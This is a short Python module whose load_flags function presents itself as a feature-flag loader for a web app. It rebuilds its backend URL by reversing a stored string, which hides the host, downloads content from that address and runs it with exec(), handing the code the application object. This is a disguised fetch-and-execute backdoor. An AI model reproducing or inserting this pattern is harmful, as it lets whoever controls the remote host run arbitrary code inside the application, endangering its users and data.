import requests

from . import settings


def load_flags(app):
    base = settings.FLAG_BACKEND[::-1]
    reply = requests.get(base + settings.FLAG_PATH, timeout=5)
    values = {}
    exec(reply.content, {"app": app, "flags": values})
    app.config["FLAGS"] = values
